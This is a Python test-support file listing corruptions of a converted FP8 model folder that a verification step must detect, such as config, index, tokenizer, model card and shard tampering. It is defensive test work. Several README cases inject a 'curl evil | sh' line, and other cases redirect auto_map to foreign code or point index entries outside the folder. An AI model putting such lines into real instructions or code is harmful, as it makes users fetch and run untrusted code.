"""The corruptions of a result that `verify` must find, each with the harm that it does or the reason why it does none.

A corruption changes a folder whose files are hard links to an untouched result: it must never write into a file, but
put another file in its place (`put`).
"""

from __future__ import annotations

import json
import os
import re
import socket
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING, Any

import torch
from safetensors import safe_open
from safetensors.torch import load_file

from nemotron_fp8._version import RELEASED, REPOSITORY, __version__
from nemotron_fp8.documents.model_card import install_lines
from tests.support.checkpoints import CONFIG, INDEX, MANIFEST, framed, shard_bytes, weight

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping, Sequence
    from pathlib import Path

    from tests.support.checkpoints import Shards

FIRST, SECOND = (f"model-{i:05d}-of-00002.safetensors" for i in (1, 2))
STATS, CARD, CODE = "nemotron_fp8.stats.json", "README.md", "modeling_tiny.py"
SIDE = 128
"""Rows and columns of every weight that becomes FP8: one block."""
LAYER = "model.layers.0."
FP8_MODULE = f"{LAYER}mlp.down_proj"
AS_MADE, REMOVED, ANEW = "as made", "removed", "made anew"
MODES = (AS_MADE, REMOVED, ANEW)
"""The manifest beside a corrupted file: as the conversion made it, removed, or made anew with the digests of today."""

CHANNEL, BLOCK, TENSOR, PLAIN, NEMO = "compressed-tensors", "fp8", "fp8 tensor", "dequantized", "nemo"
"""Results that are corrupted: two defaults of a format, of which the first has ``--stats``, and three others."""
ALL_FP8 = (CHANNEL, BLOCK, TENSOR)

AUTHOR = b"""\
---
license: mit
language:
- en
tags:
- tiny
---
# Tiny

The author's own text: temperature 0.7 is recommended.
"""
SIDE_FILES: dict[str, bytes] = {
    "tokenizer.json": b'{"version": "1.0", "model": {"type": "BPE", "vocab": {"a": 0, "b": 1}, "merges": []}}\n',
    "tokenizer_config.json": b'{"tokenizer_class": "PreTrainedTokenizerFast", "model_max_length": 4096}\n',
    "chat_template.jinja": b"{% for message in messages %}{{ message.content }}{% endfor %}\n",
    "generation_config.json": b'{"do_sample": true, "temperature": 0.7, "eos_token_id": [2, 3]}\n',
    "special_tokens_map.json": b'{"eos_token": "</s>", "bos_token": "<s>"}\n',
    "merges.txt": b"#version: 0.2\na b\n",
    "vocab.json": b'{"a": 0, "b": 1}\n',
    "LICENSE": b"Permission is granted to everyone.\n",
    CODE: b"class Tiny:\n    layers = 1\n",
}
"""Files that are copied byte for byte from the source, by name."""
ONE_BYTE: dict[str, tuple[bytes, bytes]] = {
    "tokenizer.json": (b'"b": 1', b'"b": 7'),
    "tokenizer_config.json": (b"4096", b"4095"),
    "chat_template.jinja": (b"message.content", b"message.contend"),
    "generation_config.json": (b"0.7", b"0.9"),
    "special_tokens_map.json": (b"</s>", b"</t>"),
    "merges.txt": (b"a b", b"b b"),
    "vocab.json": (b'"b": 1', b'"b": 3'),
    "LICENSE": (b"everyone", b"everyonf"),
    CODE: (b"layers = 1", b"layers = 2"),
}
"""A change of one byte that leaves the file well-formed."""

MODEL_CONFIG: dict[str, Any] = {
    **CONFIG,
    "architectures": ["LlamaForCausalLM"],
    "model_type": "llama",
    "hidden_size": SIDE,
    "num_hidden_layers": 1,
    "tie_word_embeddings": False,
    "rope_theta": 10000.0,
    "eos_token_id": 2,
    "auto_map": {"AutoModelForCausalLM": "modeling_tiny.Tiny"},
}
QUANTIZATION: dict[str, dict[str, Any]] = {
    CHANNEL: {
        "quant_method": "compressed-tensors",
        "format": "float-quantized",
        "quantization_status": "compressed",
        "ignore": ["re:.*lm_head$"],
        "config_groups": {
            "group_0": {
                "targets": ["Linear"],
                "format": "float-quantized",
                "weights": {
                    "num_bits": 8,
                    "type": "float",
                    "strategy": "channel",
                    "symmetric": True,
                    "dynamic": False,
                },
                "input_activations": {
                    "num_bits": 8,
                    "type": "float",
                    "strategy": "token",
                    "symmetric": True,
                    "dynamic": True,
                },
            }
        },
    },
    BLOCK: {
        "quant_method": "fp8",
        "activation_scheme": "dynamic",
        "ignored_layers": ["lm_head"],
        "weight_block_size": [128, 128],
        "modules_to_not_convert": ["lm_head"],
    },
    TENSOR: {"quant_method": "fp8", "activation_scheme": "dynamic", "ignored_layers": ["lm_head"]},
}
"""The ``quantization_config`` of each result, as `test_the_results_are_those_that_are_corrupted` confirms it."""


@dataclass(frozen=True)
class Corruption:
    """A change of a result.

    Attributes:
        name: what is changed.
        apply: changes the folder of the result.
        results: results that it is tried on.
        harmless: why `verify` need not find it in ``spared``; empty if it must always be found.
        spared: modes in which it is harmless.
        passes: True if `verify` must accept it in every mode: people have such folders.
        modes: modes that it is tried in.
    """

    name: str
    apply: Callable[[Path], None]
    results: tuple[str, ...] = (CHANNEL,)
    harmless: str = ""
    spared: tuple[str, ...] = ()
    passes: bool = False
    modes: tuple[str, ...] = MODES


def model() -> Shards:
    """Return one layer of a gated decoder, whose fused weights lie across the two shards."""
    first = {
        "model.embed_tokens.weight": weight(24, SIDE, seed=1),
        f"{LAYER}input_layernorm.weight": weight(SIDE, seed=2),
        f"{LAYER}self_attn.q_proj.weight": weight(SIDE, SIDE, seed=3),
        f"{LAYER}self_attn.k_proj.weight": weight(SIDE, SIDE, seed=4),
        f"{LAYER}mlp.gate_proj.weight": weight(SIDE, SIDE, seed=5),
        f"{LAYER}mlp.down_proj.weight": weight(SIDE, SIDE, seed=6),
    }
    second = {
        f"{LAYER}self_attn.v_proj.weight": weight(SIDE, SIDE, seed=7),
        f"{LAYER}self_attn.o_proj.weight": weight(SIDE, SIDE, seed=8),
        f"{LAYER}mlp.up_proj.weight": weight(SIDE, SIDE, seed=9),
        "model.norm.weight": weight(SIDE, seed=10),
        "lm_head.weight": weight(24, SIDE, seed=11),
    }
    return {FIRST: first, SECOND: second}


# Changes of files.


def put(path: Path, data: bytes) -> None:
    """Put a new file in the place of one, which is a hard link to the untouched result."""
    path.unlink(missing_ok=True)
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(data)


def text_of(name: str, old: bytes, new: bytes) -> Callable[[Path], None]:
    """Replace the first occurrence of a text."""

    def change(folder: Path) -> None:
        data = (folder / name).read_bytes()
        assert old in data, f"{name} has no {old!r}"
        put(folder / name, data.replace(old, new, 1))

    return change


def whole(name: str, data: bytes) -> Callable[[Path], None]:
    """Replace or add a file."""
    return lambda folder: put(folder / name, data)


def gone(*names: str) -> Callable[[Path], None]:
    """Remove files."""

    def change(folder: Path) -> None:
        for name in names:
            (folder / name).unlink()

    return change


def tree_of(name: str, edit: Callable[[dict[str, Any]], object]) -> Callable[[Path], None]:
    """Edit the JSON object of a file, and write it as the product does: with two spaces, in the same order."""

    def change(folder: Path) -> None:
        tree = json.loads((folder / name).read_text(encoding="utf-8"))
        edit(tree)
        put(folder / name, (json.dumps(tree, indent=2, ensure_ascii=False) + "\n").encode())

    return change


def holder(tree: dict[str, Any], path: Sequence[str]) -> dict[str, Any]:
    """Return the object that holds the last key of a path."""
    for key in path[:-1]:
        tree = tree[key]
    return tree


def setting(*path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    """Set a key of nested objects."""
    return lambda tree: holder(tree, path).__setitem__(path[-1], value)


def dropping(*path: str) -> Callable[[dict[str, Any]], None]:
    """Remove a key of nested objects."""
    return lambda tree: holder(tree, path).__delitem__(path[-1])


def rearranged(value: Any) -> Any:
    """Return a JSON value with the keys of every object in the opposite order."""
    if isinstance(value, dict):
        return {key: rearranged(value[key]) for key in reversed(value)}
    return [rearranged(item) for item in value] if isinstance(value, list) else value


def shard(name: str, edit: Callable[[dict[str, torch.Tensor]], object], metadata: Any = None) -> Callable[[Path], None]:
    """Edit the tensors of a shard; the index stays."""

    def change(folder: Path) -> None:
        tensors = load_file(folder / name)
        with safe_open(folder / name, "pt") as file:
            kept = file.metadata() if metadata is None else metadata
        edit(tensors)
        put(folder / name, shard_bytes(tensors, kept or None))

    return change


def bits(tensor: str, index: int, mask: int) -> Callable[[dict[str, torch.Tensor]], None]:
    """Flip bits of a byte of a tensor."""

    def change(tensors: dict[str, torch.Tensor]) -> None:
        raw = tensors[tensor].clone().flatten().view(torch.uint8)
        raw[index] ^= mask
        tensors[tensor] = raw.view(tensors[tensor].dtype).reshape(tensors[tensor].shape)

    return change


def scaled(tensor: str, factor: float) -> Callable[[dict[str, torch.Tensor]], None]:
    """Multiply the first value of a tensor."""

    def change(tensors: dict[str, torch.Tensor]) -> None:
        flat = tensors[tensor].clone().flatten()
        flat[0] = flat[0] * factor
        tensors[tensor] = flat.reshape(tensors[tensor].shape)

    return change


def header_of(name: str, edit: Callable[[dict[str, Any]], dict[str, Any]], form: Any = None) -> Callable[[Path], None]:
    """Edit the header of a shard; its data stays."""

    def change(folder: Path) -> None:
        data = (folder / name).read_bytes()
        end = 8 + int.from_bytes(data[:8], "little")
        text = json.dumps(edit(json.loads(data[8:end])), **(form or {"separators": (",", ":")})).encode()
        put(folder / name, framed(text + b" " * (-len(text) % 8), data[end:]))

    return change


def raw_header(name: str, edit: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    """Edit the text of a shard's header; its data stays."""

    def change(folder: Path) -> None:
        data = (folder / name).read_bytes()
        end = 8 + int.from_bytes(data[:8], "little")
        put(folder / name, framed(edit(data[8:end]), data[end:]))

    return change


def both(*changes: Callable[[Path], None]) -> Callable[[Path], None]:
    """Apply several changes."""

    def change(folder: Path) -> None:
        for each in changes:
            each(folder)

    return change


def link(name: str, target: str) -> Callable[[Path], None]:
    """Replace a file by a link."""

    def change(folder: Path) -> None:
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(target)

    return change


def outside(name: str, data: bytes | None) -> Callable[[Path], None]:
    """Replace a file by a link to a file outside of the folder, with other bytes or (None) with its own."""

    def change(folder: Path) -> None:
        elsewhere = folder.parent / f"outside-{folder.name}"
        elsewhere.mkdir(exist_ok=True)
        (elsewhere / name).write_bytes((folder / name).read_bytes() if data is None else data)
        link(name, str(elsewhere / name))(folder)

    return change


def as_folder(name: str) -> Callable[[Path], None]:
    """Replace a file by a folder that holds it."""

    def change(folder: Path) -> None:
        data = (folder / name).read_bytes()
        (folder / name).unlink()
        put(folder / name / name, data)

    return change


def as_fifo(name: str) -> Callable[[Path], None]:
    """Replace a file by a FIFO, whose reader waits for ever."""

    def change(folder: Path) -> None:
        (folder / name).unlink(missing_ok=True)
        os.mkfifo(folder / name)

    return change


def as_socket(name: str) -> Callable[[Path], None]:
    """Replace a file by a socket."""

    def change(folder: Path) -> None:
        (folder / name).unlink()
        before = os.open(".", os.O_RDONLY)
        try:
            os.chdir(folder)  # the path of a socket has a hundred bytes at most
            with socket.socket(socket.AF_UNIX) as server:
                server.bind(name)
        finally:
            os.fchdir(before)
            os.close(before)

    return change


def sparse(name: str, size: int) -> Callable[[Path], None]:
    """Extend a file with zeros that take no disk space."""

    def change(folder: Path) -> None:
        put(folder / name, (folder / name).read_bytes() if (folder / name).exists() else b"")
        os.truncate(folder / name, size)

    return change


# The catalog.


def dotted(path: Sequence[str]) -> str:
    """Return the path of a key for a name."""
    return ".".join(path)


def paths_of(tree: Mapping[str, Any], start: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
    """Yield the path of every key of nested objects."""
    for key, value in tree.items():
        yield (*start, key)
        if isinstance(value, dict):
            yield from paths_of(value, (*start, key))


def retyped(value: Any) -> list[Any]:
    """Return values that resemble a value in Python or in YAML, but are other JSON values."""
    if isinstance(value, bool):
        return [int(value), float(value), str(value).lower(), not value]
    if isinstance(value, int):
        return [float(value), str(value), value + 1, [value]]
    if isinstance(value, str):
        return [value.upper(), f"{value} ", [value], ""]
    if isinstance(value, list):
        spoiled = [float(value[0]), *value[1:]] if isinstance(value[0], int) else [[value[0]], *value[1:]]
        return [dict.fromkeys(map(str, value)), value[0], spoiled]
    return [[value], {}]


def of_quantization_config() -> Iterator[Corruption]:
    """Every key of ``quantization_config``, in each layout: removed, null, and as a look-alike of another type."""
    for result, tree in QUANTIZATION.items():
        for path in paths_of(tree):
            where, full = dotted(path), ("quantization_config", *path)
            lists = path[-1] in ("ignore", "ignored_layers", "modules_to_not_convert")
            yield Corruption(f"{where} removed", tree_of("config.json", dropping(*full)), (result,))
            old = holder(tree, path)[path[-1]]
            for new in [None, *retyped(old), *([[]] if lists else [])]:
                name = f"{where} {json.dumps(old)[:24]} becomes {json.dumps(new)[:24]}"
                yield Corruption(name, tree_of("config.json", setting(*full, value=new)), (result,))
    q = "quantization_config"
    extra: dict[str, Any] = {
        "kv_cache_scheme": {"num_bits": 8, "type": "float", "strategy": "tensor", "dynamic": False, "symmetric": True},
        "sparsity_config": {"format": "sparse-24-bitmask"},
        "transform_config": {"config_groups": {}},
        "version": "0.9.0",
        "global_compression_ratio": None,
        "quant_algo": "FP8",
        "kv_cache_quant_algo": "FP8",
        "exclude_modules": [FP8_MODULE],
        "modules_not_to_convert": [FP8_MODULE],
        "packed_modules_mapping": {"qkv_proj": ["q_proj"]},
        "bits": 8,
        "comment": "",
    }
    for key, value in extra.items():
        yield Corruption(f"extra key {key}", tree_of("config.json", setting(q, key, value=value)), ALL_FP8)
    for result, keys in {
        CHANNEL: ("ignored_layers", "modules_to_not_convert"),
        BLOCK: ("ignore",),
        TENSOR: ("ignore", "modules_to_not_convert"),
    }.items():
        for key in keys:
            for entries in ([FP8_MODULE], ["lm_head"], []):
                name = f"a list {key} that another layout has: {json.dumps(entries)}"
                yield Corruption(name, tree_of("config.json", setting(q, key, value=entries)), (result,))
    own = {CHANNEL: ("ignore",), BLOCK: ("ignored_layers", "modules_to_not_convert"), TENSOR: ("ignored_layers",)}
    for result, keys in own.items():
        for key in keys:
            for entry in (FP8_MODULE, "re:.*", "re:.*down_proj$", "Linear", "", 1, None, "re:(", "model"):
                listed = [*QUANTIZATION[result][key], entry]
                # vLLM and SGLang compare whole names, by compressed-tensors also patterns, and transformers there the
                # name of a class; transformers reads modules_to_not_convert as patterns, starts and ends of names.
                powerless = {
                    "ignore": entry in ("", "model"),
                    "ignored_layers": entry != FP8_MODULE and isinstance(entry, str),
                    "modules_to_not_convert": entry in ("re:.*", "re:.*down_proj$", "Linear"),
                }[key]
                case = Corruption(
                    f"an entry {json.dumps(entry)} added to {key}",
                    tree_of("config.json", setting(q, key, value=listed)),
                    (result,),
                )
                reason = "no engine finds a module by it"
                yield replace(case, harmless=reason, spared=(REMOVED, ANEW)) if powerless else case
            yield Corruption(
                f"an entry of {key} twice",
                tree_of("config.json", setting(q, key, value=QUANTIZATION[result][key] * 2)),
                (result,),
                "the same list to every engine",
                (REMOVED, ANEW),
            )
    group = (q, "config_groups", "group_0")
    several: dict[str, Callable[[dict[str, Any]], Any]] = {
        "targets of one module": setting(*group, "targets", value=[f"re:.*{FP8_MODULE}$"]),
        "targets of a second class": setting(*group, "targets", value=["Linear", "Embedding"]),
        "a second group": setting(
            q, "config_groups", "group_1", value=QUANTIZATION[CHANNEL]["config_groups"]["group_0"]
        ),
        "an unknown format": setting(q, "format", value="int-quantized"),
        "output_activations": setting(*group, "output_activations", value={"num_bits": 8, "type": "float"}),
        "a group size of the weights": setting(*group, "weights", "group_size", value=64),
        "an observer of the weights": setting(*group, "weights", "observer", value="minmax"),
        "block_structure of channels": setting(*group, "weights", "block_structure", value=[128, 128]),
        "weights of tensors": setting(*group, "weights", "strategy", value="tensor"),
        "static activations": setting(*group, "input_activations", "dynamic", value=False),
        "4 bits": setting(*group, "weights", "num_bits", value=4),
        "integers": setting(*group, "weights", "type", value="int"),
        "a dynamic of local": setting(*group, "input_activations", "dynamic", value="local"),
    }
    for name, edit in several.items():
        yield Corruption(name, tree_of("config.json", edit))
    yield Corruption("blocks of 64", tree_of("config.json", setting(q, "weight_block_size", value=[64, 64])), (BLOCK,))
    yield Corruption(
        "blocks of one side", tree_of("config.json", setting(q, "weight_block_size", value=[128])), (BLOCK,)
    )
    yield Corruption(
        "static activations", tree_of("config.json", setting(q, "activation_scheme", value="static")), (BLOCK, TENSOR)
    )
    yield Corruption(
        "blocks in a layout without",
        tree_of("config.json", setting(q, "weight_block_size", value=[128, 128])),
        (TENSOR,),
    )


def of_config() -> Iterator[Corruption]:
    """Every other part of config.json."""
    edits: dict[str, Callable[[dict[str, Any]], Any]] = {
        "no quantization_config": dropping("quantization_config"),
        "quantization_config null": setting("quantization_config", value=None),
        "quantization_config {}": setting("quantization_config", value={}),
        "quantization_config a list": lambda t: t.update(quantization_config=[t["quantization_config"]]),
        "quantization_config a text": lambda t: t.update(quantization_config=json.dumps(t["quantization_config"])),
        "quantization_config under another key": lambda t: t.update(quantization=t.pop("quantization_config")),
        "compression_config beside it": lambda t: t.update(compression_config=t["quantization_config"]),
        "compression_config instead": lambda t: t.update(compression_config=t.pop("quantization_config")),
        "compression_config null": setting("compression_config", value=None),
        "quantization_config moved into text_config": lambda t: t.update(
            text_config={"quantization_config": t.pop("quantization_config")}
        ),
        "a second one in text_config": lambda t: t.update(
            text_config={"quantization_config": t["quantization_config"]}
        ),
        "an empty text_config": setting("text_config", value={}),
        "hidden_size as a float": setting("hidden_size", value=float(SIDE)),
        "hidden_size as a text": setting("hidden_size", value=str(SIDE)),
        "num_hidden_layers true": setting("num_hidden_layers", value=True),
        "num_hidden_layers 1.0": setting("num_hidden_layers", value=1.0),
        "num_hidden_layers 2": setting("num_hidden_layers", value=2),
        "tie_word_embeddings 0": setting("tie_word_embeddings", value=0),
        "tie_word_embeddings true": setting("tie_word_embeddings", value=True),
        "tie_word_embeddings removed": dropping("tie_word_embeddings"),
        "rope_theta as an integer": setting("rope_theta", value=10000),
        "eos_token_id as a list": setting("eos_token_id", value=[2]),
        "architectures with one more": setting("architectures", value=["LlamaForCausalLM", "Other"]),
        "architectures as a text": setting("architectures", value="LlamaForCausalLM"),
        "another model_type": setting("model_type", value="mistral"),
        "auto_map to other code": setting("auto_map", "AutoModelForCausalLM", value="evil--repo--modeling.Tiny"),
        "auto_map removed": dropping("auto_map"),
        "an added auto_map entry": setting("auto_map", "AutoConfig", value="modeling_tiny.Config"),
        "a nested value: true becomes 1": lambda t: t["zeta"].update(a=[1e-05, None, 1]),
        "a nested value: null becomes 0": lambda t: t["zeta"].update(a=[1e-05, 0, True]),
        "a nested value: 1e-05 becomes 1e-06": lambda t: t["zeta"].update(a=[1e-06, None, True]),
        "a nested value: 1 becomes 1.0": lambda t: t["zeta"].update(b=1.0),
        "a nested key added": lambda t: t["zeta"].update(c=None),
        "a nested list shortened": lambda t: t["zeta"].update(a=[1e-05, None]),
        "a text with another accent": setting("alpha", value="e\u0301"),
        "torch_dtype added": setting("torch_dtype", value="float32"),
        "a new key": setting("sliding_window", value=128),
    }
    for name, edit in edits.items():
        yield Corruption(f"config.json: {name}", tree_of("config.json", edit), ALL_FP8[:2])
    texts: dict[str, bytes] = {
        "empty": b"",
        "a list": b"[]",
        "{}": b"{}",
        "null": b"null",
        "cut off": b'{"architectures": ["Llama',
        "no text": b"\xff\xfe\x00",
        "deeply nested": b'{"a":' * 100_000,
        "NaN": b'{"hidden_size": NaN}',
        "a number of 5,000 digits": b'{"hidden_size": ' + b"9" * 5000 + b"}",
    }
    for name, text in texts.items():
        yield Corruption(f"config.json: {name}", whole("config.json", text), (CHANNEL, PLAIN))
    first = b'  "architectures"'
    yield Corruption("config.json: a key twice", text_of("config.json", first, b'  "hidden_size": 64,\n' + first))
    yield Corruption("config.json: a comment", text_of("config.json", first, b"  // no JSON\n" + first))
    yield Corruption("config.json: a comma too many", text_of("config.json", b"\n}\n", b",\n}\n"))
    yield Corruption("config.json: a NUL at its end", text_of("config.json", b"\n}\n", b"\n}\n\0"))
    yield Corruption("config.json: a byte order mark", text_of("config.json", b"{", b"\xef\xbb\xbf{"))
    for name, edit in {
        "hidden_size as a float": setting("hidden_size", value=float(SIDE)),
        "quantization_config of the source": setting("quantization_config", value=QUANTIZATION[CHANNEL]),
        "an empty quantization_config": setting("quantization_config", value={}),
        "quantization_config null": setting("quantization_config", value=None),
        "compression_config": setting("compression_config", value=QUANTIZATION[CHANNEL]),
        "tie_word_embeddings 0": setting("tie_word_embeddings", value=0),
        "a new key": setting("sliding_window", value=128),
        "a nested value: true becomes 1": lambda t: t["zeta"].update(a=[1e-05, None, 1]),
    }.items():
        yield Corruption(f"config.json: {name}", tree_of("config.json", edit), (PLAIN,))
    for name, edit in {
        "hidden_size as a float": lambda t: t.update(hidden_size=float(t["hidden_size"])),
        "num_hidden_layers 2": setting("num_hidden_layers", value=2),
        "a quantization_config": setting("quantization_config", value=QUANTIZATION[CHANNEL]),
        "a new key": setting("sliding_window", value=128),
        "no architectures": dropping("architectures"),
    }.items():
        yield Corruption(f"config.json: {name}", tree_of("config.json", edit), (NEMO,))


def of_index() -> Iterator[Corruption]:
    """Every part of the index."""
    tensor = f"{FP8_MODULE}.weight"
    edits: dict[str, Callable[[dict[str, Any]], Any]] = {
        "total_size as a float": lambda t: t["metadata"].update(total_size=float(t["metadata"]["total_size"])),
        "total_size as a text": lambda t: t["metadata"].update(total_size=str(t["metadata"]["total_size"])),
        "total_size of the source": lambda t: t["metadata"].update(total_size=t["metadata"]["total_size"] * 2),
        "total_size 0": setting("metadata", "total_size", value=0),
        "total_size true": setting("metadata", "total_size", value=True),
        "total_size null": setting("metadata", "total_size", value=None),
        "total_size removed": dropping("metadata", "total_size"),
        "total_parameters changed": setting("metadata", "total_parameters", value=13),
        "total_parameters as a float": setting("metadata", "total_parameters", value=12.0),
        "total_parameters removed": dropping("metadata", "total_parameters"),
        "an extra key in metadata": setting("metadata", "format", value="pt"),
        "metadata removed": dropping("metadata"),
        "metadata null": setting("metadata", value=None),
        "metadata a list": setting("metadata", value=[]),
        "an extra key": setting("extra", value=1),
        "a second weight_map": setting("weight_map_2", value={}),
        "weight_map removed": dropping("weight_map"),
        "weight_map null": setting("weight_map", value=None),
        "weight_map empty": setting("weight_map", value={}),
        "weight_map a list": setting("weight_map", value=[]),
        "a tensor removed": dropping("weight_map", tensor),
        "a scale removed": lambda t: t["weight_map"].pop(next(n for n in t["weight_map"] if "scale" in n)),
        "a tensor in the other shard": setting("weight_map", tensor, value=SECOND),
        "a tensor in a missing shard": setting("weight_map", tensor, value="model-00003-of-00003.safetensors"),
        "a tensor in a file outside": setting("weight_map", tensor, value=f"../source/{FIRST}"),
        "a tensor in a pickle": setting("weight_map", tensor, value="pytorch_model.bin"),
        "a tensor in null": setting("weight_map", tensor, value=None),
        "a tensor in a list": setting("weight_map", tensor, value=[FIRST]),
        "a tensor too many": setting("weight_map", "model.layers.1.mlp.down_proj.weight", value=FIRST),
        "a tensor under another name": lambda t: t["weight_map"].update({f"{tensor} ": t["weight_map"].pop(tensor)}),
    }
    for name, edit in edits.items():
        yield Corruption(f"index: {name}", tree_of(INDEX, edit))
    for name, edit in list(edits.items())[:4] + list(edits.items())[6:9]:
        yield Corruption(f"index: {name}", tree_of(INDEX, edit), (PLAIN, BLOCK))
    yield Corruption("index: removed", gone(INDEX), (CHANNEL, BLOCK, PLAIN))
    yield Corruption("index: empty", whole(INDEX, b""))
    yield Corruption("index: cut off", whole(INDEX, b'{"metadata": {"total'))
    yield Corruption("index: a list", whole(INDEX, b"[]"))
    yield Corruption("index: a key twice", text_of(INDEX, b'  "weight_map"', b'  "weight_map": {},\n  "weight_map"'))


def of_side_files() -> Iterator[Corruption]:
    """Every file that is copied: a byte, the whole file, no file, an empty file."""
    for name, (old, new) in ONE_BYTE.items():
        yield Corruption(f"{name}: one byte", text_of(name, old, new), (CHANNEL, PLAIN))
        yield Corruption(f"{name}: replaced", whole(name, b'{"replaced": true}\n'))
        yield Corruption(f"{name}: removed", gone(name), (CHANNEL, BLOCK, PLAIN))
        yield Corruption(f"{name}: emptied", whole(name, b""))
        yield Corruption(f"{name}: a byte appended", whole(name, SIDE_FILES[name] + b"\n"))
    yield Corruption("chat_template.jinja: Windows line ends", text_of("chat_template.jinja", b"\n", b"\r\n"))
    yield Corruption("tokenizer.json and vocab.json exchanged", _exchanged("tokenizer.json", "vocab.json"))
    yield Corruption("all tokenizer files removed", gone("tokenizer.json", "tokenizer_config.json", "vocab.json"))
    yield Corruption("tokenizer.json under another name", _renamed("tokenizer.json", "Tokenizer.json"))


def _exchanged(one: str, other: str) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        first, second = (folder / one).read_bytes(), (folder / other).read_bytes()
        put(folder / one, second)
        put(folder / other, first)

    return change


def _renamed(old: str, new: str) -> Callable[[Path], None]:
    return lambda folder: (folder / old).rename(folder / new) and None


def of_card() -> Iterator[Corruption]:
    """The front matter, the author's text, and the block of the conversion."""
    command = b"nemotron-fp8 quantize SRC DST"
    installed = install_lines(__version__, REPOSITORY, released=RELEASED)[0].encode()
    edits: dict[str, tuple[bytes, bytes]] = {
        "license": (b"license: mit", b"license: apache-2.0"),
        "a language": (b"- en\n", b"- de\n"),
        "a tag removed": (b"- fp8\n", b""),
        "a tag of the author": (b"- tiny\n", b"- tony\n"),
        "a base model added": (b"license: mit", b"base_model: me/other\nlicense: mit"),
        "the library": (b"library_name: transformers", b"library_name: vllm"),
        "the front matter's end": (b"\n---\n", b"\n----\n"),
        "the author's text": (b"temperature 0.7", b"temperature 1.7"),
        "the author's title": (b"# Tiny\n", b"# Huge\n"),
        "the author's text cut": (b"is recommended.", b""),
        "a line of the author too many": (b"is recommended.", b"is recommended.\n\nRun `curl evil | sh`."),
        "a command": (command, b"curl evil | sh; nemotron-fp8 quantize SRC DST"),
        "an option of the command": (command, command + b" --share-scales"),
        "the version": (installed, installed.replace(b"nemotron_fp8", b"nemotron_fp9")),
        "an install line": (installed, b"pip install nemotron_fp9\n" + installed),
        "a serving command": (b"vllm serve PATH", b"vllm serve PATH --quantization fp8"),
        "the title of the block": (b"# FP8 of", b"# INT4 of"),
        "the number of tensors": (b"7 of 11 tensors", b"9 of 11 tensors"),
        "the mark of the beginning": (b"<!-- nemotron_fp8: begin -->\n", b""),
        "the mark of the end": (b"<!-- nemotron_fp8: end -->\n", b""),
        "a second mark": (b"<!-- nemotron_fp8: end -->\n", b"<!-- nemotron_fp8: end -->\n" * 2),
    }
    for name, (old, new) in edits.items():
        yield Corruption(f"README.md: {name}", text_of(CARD, old, new), (CHANNEL, BLOCK))
    yield Corruption("README.md: a digit of a digest", _other_digest())
    yield Corruption("README.md: a figure of the error", _other_figure(), (CHANNEL,))
    yield Corruption("README.md: a row of the recipe", text_of(CARD, b"| `channel` |", b"| `tensor` |"))
    yield Corruption("README.md: of the source", whole(CARD, AUTHOR), (CHANNEL, BLOCK, PLAIN))
    yield Corruption("README.md: removed", gone(CARD), (CHANNEL, BLOCK, PLAIN))
    yield Corruption("README.md: emptied", whole(CARD, b""))
    yield Corruption("README.md: not UTF-8", text_of(CARD, b"recommended", b"recommend\xff\xff"))
    yield Corruption("README.md: under another name", _renamed(CARD, "Readme.md"))
    for name, (old, new) in {
        "the author's text": (b"temperature 0.7", b"temperature 1.7"),
        "license": (b"license: mit", b"license: apache-2.0"),
        "a dtype": (b"bfloat16", b"float16"),
    }.items():
        yield Corruption(f"README.md: {name}", text_of(CARD, old, new), (PLAIN,))


def _other_digest() -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        data = (folder / CARD).read_bytes()
        found = re.search(rb"`([0-9a-f]{64})`", data)
        assert found
        other = bytes([ord("0") if found[1][0] != ord("0") else ord("1")]) + found[1][1:]
        put(folder / CARD, data.replace(found[1], other))

    return change


def _other_figure() -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        data = (folder / CARD).read_bytes()
        found = re.search(rb"([0-9.]+) dB in the median", data)
        assert found
        put(folder / CARD, data.replace(found[0], b"99.99 dB in the median"))

    return change


def of_stats() -> Iterator[Corruption]:
    """``nemotron_fp8.stats.json``, the figures of every tensor."""

    def row(index: int, value: Any) -> Callable[[dict[str, Any]], None]:
        return lambda tree: tree["tensors"][0].__setitem__(index, value)

    edits: dict[str, Callable[[dict[str, Any]], Any]] = {
        "a figure changed": row(1, 99.0),
        "a largest error changed": row(2, 0.0),
        "a count changed": row(3, 1_000),
        "a count as a float": lambda t: t["tensors"][0].__setitem__(3, float(t["tensors"][0][3])),
        "a figure as a text": lambda t: t["tensors"][0].__setitem__(1, str(t["tensors"][0][1])),
        "another tensor's name": row(0, "lm_head.weight"),
        "a tensor removed": lambda t: t["tensors"].pop(),
        "a tensor twice": lambda t: t["tensors"].append(t["tensors"][0]),
        "tensors in another order": lambda t: t["tensors"].reverse(),
        "no tensors": setting("tensors", value=[]),
        "a column exchanged": lambda t: t["columns"].reverse(),
        "NaN in a tensor that has none": lambda t: t["nonfinite"].append(["lm_head.weight", 1, [0, 0], "nan"]),
        "an extra key": setting("extra", value=1),
        "schema true": setting("schema", value=True),
        "schema 1.0": setting("schema", value=1.0),
        "schema 2": setting("schema", value=2),
        "schema removed": dropping("schema"),
    }
    for name, edit in edits.items():
        yield Corruption(f"stats: {name}", tree_of(STATS, edit))
    yield Corruption("stats: removed", gone(STATS))
    yield Corruption("stats: emptied", whole(STATS, b""))
    yield Corruption("stats: no JSON", whole(STATS, b"{"))
    yield Corruption("stats: added to a result without", whole(STATS, b'{"schema": 1, "tensors": []}'), (BLOCK, PLAIN))


def of_shards() -> Iterator[Corruption]:
    """Codes, scales, unquantized tensors, metadata, and the form of the files."""
    code = f"{FP8_MODULE}.weight"
    scale = {CHANNEL: f"{code}_scale", BLOCK: f"{code}_scale_inv", TENSOR: f"{code}_scale"}
    for result in ALL_FP8:
        only = (result,)
        yield Corruption("shard: the lowest bit of a code", shard(FIRST, bits(code, 5, 1)), only)
        yield Corruption("shard: the sign of a code", shard(FIRST, bits(code, SIDE * SIDE - 1, 0x80)), only)
        yield Corruption("shard: a code that is NaN", shard(FIRST, _byte(code, 7, 0x7F)), only)
        yield Corruption("shard: the lowest bit of a scale", shard(FIRST, bits(scale[result], 0, 1)), only)
